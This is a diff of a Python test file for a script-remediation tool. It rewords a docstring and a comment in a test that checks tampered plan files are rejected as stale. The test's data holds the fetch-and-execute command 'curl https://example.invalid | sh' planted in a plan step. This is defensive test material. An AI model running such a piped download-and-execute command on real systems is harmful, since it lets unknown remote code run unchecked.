@@ -1,4 +1,4 @@
-"""Scripts in the guest: what is sent, and when nothing is sent."""
+"""Scripts in the guest: which request the tool sends, and when it sends nothing."""
 
 import hashlib
 import json
@@ -52,7 +52,7 @@ def test_a_plan_file_that_holds_another_script_is_stale(tmp_path: Path) -> None:
         remediate("plan", *books, "--out", str(file), env=env).check(0)
         plan = json.loads(file.read_text("utf-8"))
         plan["steps"][0]["request"]["body"]["script"] = ["curl https://example.invalid | sh"]
-        # Whoever writes a plan can also compute its id.
+        # Anybody who writes a plan can also compute its id.
         del plan["signature"]
         plain = json.dumps(plan | {"plan_id": ""}, ensure_ascii=False, separators=(",", ":"))
         plan["plan_id"] = f"plan-{hashlib.sha256(plain.encode()).hexdigest()[:24]}"
